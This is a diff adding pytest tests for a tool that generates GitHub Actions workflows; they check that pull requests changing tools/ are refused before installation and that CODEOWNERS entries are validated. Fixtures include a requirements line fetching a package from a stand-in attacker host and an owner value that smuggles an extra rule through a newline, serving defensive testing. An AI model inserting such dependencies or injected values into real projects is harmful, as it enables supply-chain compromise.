@@ -331,3 +331,110 @@ def test_a_matrix_workflow_passes_actionlint_and_keys_each_shard_on_the_set_of_b
     assert "!briefs/manifest.json" in upload  # each shard's manifest stays in its cache
     join = data["jobs"]["briefs"]["steps"][0]
     assert join["with"] == {"pattern": "briefs-*", "path": "briefs/", "merge-multiple": True}
+
+
+def _pull_request(root: Path, change: dict[str, str], base_change: dict[str, str]) -> None:
+    """Commit the project on main, a branch that writes ``change``, and GitHub's merge commit.
+
+    ``base_change`` is written on main after the branch left it, as a base branch moves on.
+    """
+    _git(root, "init", "-q", "-b", "main")
+    _git(root, "add", "-A")
+    _git(root, "commit", "-q", "-m", "main")
+    _git(root, "checkout", "-q", "-b", "contribution")
+    for name, text in change.items():
+        with (root / name).open("a", encoding="utf-8") as file:
+            file.write(text)
+    _git(root, "add", "-A")
+    _git(root, "commit", "-q", "-m", "contribution")
+    _git(root, "checkout", "-q", "main")
+    for name, text in base_change.items():
+        with (root / name).open("a", encoding="utf-8") as file:
+            file.write(text)
+    _git(root, "add", "-A")
+    _git(root, "commit", "-q", "-m", "main moves on")
+    _git(root, "merge", "-q", "--no-ff", "contribution", "-m", "Merge pull request #2")
+
+
+EVIL = "evilpkg @ https://attacker.example/evilpkg-1.tar.gz\n"
+
+
+@pytest.mark.parametrize(("shards", "job"), [(1, "briefs"), (3, "validate")])
+@pytest.mark.parametrize(
+    ("change", "refused"),
+    [
+        ({"tools/requirements.txt": EVIL}, True),
+        ({"tools/dependencies.txt": EVIL}, True),  # a file the project did not have
+        ({"tools/pre-commit-hook.py": "import os\n"}, True),
+        ({"profiles/README.md": "More.\n"}, False),  # while main changed tools/ (base_change)
+    ],
+)
+def test_a_pull_request_that_changes_tools_installs_nothing(
+    tmp_path: Path, shards: int, job: str, change: dict[str, str], refused: bool
+) -> None:
+    """The job's steps, run in order on the merge commit, until the first that installs the tool.
+
+    A pull request's tools/ is code of its choosing (its requirements' build backends run on
+    the runner): changed, the job must stop with an annotation before any step installs it.
+    """
+    root = tmp_path / "team"
+    args = ["--shards", str(shards), "--tool-source", "git+https://x.org/a/b@v1"]
+    assert run("init", str(root), *args).exit_code == 0
+    _pull_request(root, change, {"tools/UPGRADED.md": "On main.\n"})
+    workflow = root / ".github" / "workflows" / "briefs.yml"
+    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "GITHUB_EVENT_NAME": "pull_request"}
+    failed = None
+    for step in _steps_github_runs(workflow, job, "pull_request"):
+        if "apt-get" in step["run"]:
+            continue
+        if "pip install" in step["run"]:
+            break
+        done = subprocess.run(
+            ["bash", "-e", "-c", step["run"]], cwd=root, env=env, capture_output=True, text=True
+        )
+        if done.returncode:
+            failed = done
+            break
+    if not refused:
+        assert failed is None, failed
+        return
+    assert failed is not None, "a step installed the tool from the pull request's tools/"
+    error = failed.stdout.splitlines()[0]
+    assert error.startswith("::error title=tools/ changed::This pull request changes tools/")
+    assert "A maintainer updates tools/ on the protected branch" in error
+    assert next(iter(change)) in failed.stdout  # the diffstat names the file
+    if shards > 1:  # the build jobs install too, and run only once this job passed
+        assert yaml.safe_load(workflow.read_text())["jobs"]["build"]["needs"] == "validate"
+
+
+def test_code_owners_review_what_runs_code_and_init_says_to_protect_it(tmp_path: Path) -> None:
+    source = ["--tool-source", "git+https://x.org/a/b@v1"]
+    plain = run("init", str(tmp_path / "plain"), *source)
+    assert plain.exit_code == 0, plain.output
+    assert not (tmp_path / "plain" / ".github" / "CODEOWNERS").exists()  # no invented owner
+    assert "CI runs .github/ and installs tools/; pre-commit runs" in plain.output
+    assert "(--code-owners @org/team)" in plain.output
+    assert all(len(line) <= 80 for line in plain.output.splitlines()[-5:-1])
+    owned = run("init", str(tmp_path / "owned"), *source, "--code-owners", "@our-org/briefs")
+    assert owned.exit_code == 0, owned.output
+    assert "'Require review from Code Owners'" in owned.output
+    rules = [
+        line
+        for line in (tmp_path / "owned" / ".github" / "CODEOWNERS").read_text().splitlines()
+        if not line.startswith("#")
+    ]
+    assert rules == [
+        "/.github/ @our-org/briefs",
+        "/tools/ @our-org/briefs",
+        "/.pre-commit-config.yaml @our-org/briefs",
+    ]
+
+
+@pytest.mark.parametrize("owner", ["our-org/briefs", "@org/team\n/tools/ @someone-else", ""])
+def test_a_code_owner_that_is_not_one_is_refused_and_nothing_is_written(
+    tmp_path: Path, owner: str
+) -> None:
+    result = run("init", str(tmp_path / "team"), "--code-owners", owner)
+    assert result.exit_code == 2
+    assert "give @user, @org/team or an email address" in result.output
+    assert not (tmp_path / "team").exists()
